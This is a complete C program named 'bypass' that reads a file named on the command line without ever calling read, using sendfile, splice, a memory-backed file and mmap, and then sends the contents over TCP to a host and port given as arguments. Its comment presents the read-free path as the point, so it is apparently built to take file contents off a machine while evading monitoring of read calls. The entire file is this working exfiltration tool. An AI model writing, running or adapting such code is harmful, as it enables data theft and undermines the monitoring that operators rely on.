/* bypass FILE HOST PORT: a file goes by sendfile into a pipe; a child has it spliced from there into a file in memory, maps that, and sends
 * what it holds. Nobody calls read. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static int taken(int from, char **to) {
  char said[64];
  ssize_t count, size = 0;
  int memory = memfd_create("pages", MFD_CLOEXEC);
  while ((count = splice(from, NULL, memory, NULL, 4096, 0)) > 0) size += count;
  if (memory < 0 || count < 0 || size == 0) return 5;
  char *text = mmap(0, size, PROT_READ, MAP_SHARED, memory, 0);
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(atoi(to[1]))};
  inet_pton(AF_INET, to[0], &address.sin_addr);
  int peer = socket(AF_INET, SOCK_STREAM, 0);
  if (text == MAP_FAILED || connect(peer, (struct sockaddr *)&address, sizeof address) != 0) return 6;
  if (send(peer, text, size, 0) != size || recv(peer, said, 3, MSG_WAITALL) != 3) return 7;
  return shutdown(peer, SHUT_WR) != 0 || recv(peer, said, 1, 0) != 0;
}

int main(int argc, char **argv) {
  int ends[2], status = 1;
  if (argc != 4 || pipe(ends) != 0) return 2;
  if (fork() == 0) {
    close(ends[1]);
    _exit(taken(ends[0], argv + 2));
  }
  close(ends[0]);
  int file = open(argv[1], O_RDONLY);
  if (file < 0 || sendfile(ends[1], file, NULL, 65536) <= 0) return 4;
  close(ends[1]);
  return wait(&status) < 0 || status != 0;
}
